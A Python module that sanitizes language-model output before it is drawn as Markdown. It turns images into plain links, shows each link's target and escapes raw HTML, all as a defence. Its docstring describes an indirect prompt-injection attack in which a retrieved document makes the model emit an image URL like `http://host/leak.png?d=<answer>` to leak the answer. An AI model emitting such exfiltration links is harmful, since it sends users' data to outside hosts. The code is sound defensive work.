"""Model output as Markdown with nothing in it that loads by itself.

An answer is text from a model, and a model repeats what it read: one retrieved document can
plant `![x](http://host/leak.png?d=<text of the answer>)`, and a browser fetches every image
it draws. So images never render: each becomes a plain link labelled with its alt text
(nothing loads until it is clicked), every link shows its target beside its text so a click
is a choice, any other `![` is escaped, and raw HTML tags are escaped (Streamlit would not
draw them, other Markdown viewers of an export would). Code, fenced or inline, is left
exactly as written: nothing in code is rendered.
"""

from __future__ import annotations

import re

_FENCE_LINE = re.compile(r" {0,3}(?P<fence>`{3,}|~{3,})")
_CODE_SPAN = re.compile(r"(?<!\\)(?P<ticks>`+)(?!`).*?(?<!`)(?P=ticks)(?!`)", re.DOTALL)
_TEXT = r"\[(?P<text>(?:[^\[\]\n]|\[[^\[\]\n]*\])*)\]"
_TARGET = r"\(\s*(?P<target><[^<>\n]*>|(?:[^\s()<>]|\([^\s()]*\))+)(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?\s*\)"
_IMAGE = re.compile("!" + _TEXT + _TARGET)
_LINK = re.compile(r"(?<![!\\])" + _TEXT + _TARGET)
_BANG = re.compile(r"(\\*)!\[")
_TAG = re.compile(r"<(?=[A-Za-z/!?])(?![A-Za-z][A-Za-z0-9+.-]*:[^\s<>]*>)")  # not an autolink <http://...>


def _fenced_blocks(text: str) -> list[tuple[int, int]]:
    """Where the fenced code blocks are, as CommonMark closes them (same character, at least
    as long, nothing after); an unclosed fence runs to the end."""
    blocks, opened, position = [], None, 0
    for line in text.splitlines(keepends=True):
        fence = _FENCE_LINE.match(line)
        if opened is None:
            if fence and not (fence["fence"][0] == "`" and "`" in line[fence.end():]):
                opened = (position, fence["fence"])
        elif fence and fence["fence"][0] == opened[1][0] and len(fence["fence"]) >= len(opened[1]) \
                and not line[fence.end():].strip():
            blocks.append((opened[0], position + len(line)))
            opened = None
        position += len(line)
    return blocks + ([(opened[0], len(text))] if opened else [])


def _code_ranges(text: str) -> list[tuple[int, int]]:
    """Where the fenced blocks and the inline code spans are."""
    ranges = _fenced_blocks(text)
    for start, end, is_code in _split(text, ranges):
        if not is_code:
            ranges += [(start + a, start + b) for a, b in (m.span() for m in _CODE_SPAN.finditer(text[start:end]))]
    return sorted(ranges)


def _split(text: str, ranges: list[tuple[int, int]]) -> list[tuple[int, int, bool]]:
    pieces, position = [], 0
    for start, end in sorted(ranges):
        if start > position:
            pieces.append((position, start, False))
        pieces.append((start, end, True))
        position = end
    if position < len(text):
        pieces.append((position, len(text), False))
    return pieces


def _bare(target: str) -> str:
    return target[1:-1] if target.startswith("<") else target


def _image_as_link(match: re.Match[str]) -> str:
    target = _bare(match["target"])
    return f"[image: {match['text'] or 'untitled'}]({match['target']}) (`{target}`)"


def _link_with_target(match: re.Match[str]) -> str:
    target = _bare(match["target"])
    return match.group() if match["text"].strip("` ") == target else f"{match.group()} (`{target}`)"


def _escape_bang(match: re.Match[str]) -> str:
    """`![` escaped unless an odd number of backslashes already escapes it."""
    slashes = match[1]
    return match.group() if len(slashes) % 2 else f"{slashes}\\!["


def _make_prose_safe(prose: str) -> str:
    prose = _TAG.sub("&lt;", prose)
    prose = _LINK.sub(_link_with_target, prose)
    prose = _IMAGE.sub(_image_as_link, prose)
    return _BANG.sub(_escape_bang, prose)


def safe_markdown(text: str) -> str:
    """`text` to draw as Markdown: no image or other auto-loading URL, links with their
    target shown, code untouched."""
    return "".join(
        text[start:end] if is_code else _make_prose_safe(text[start:end])
        for start, end, is_code in _split(text, _code_ranges(text))
    )
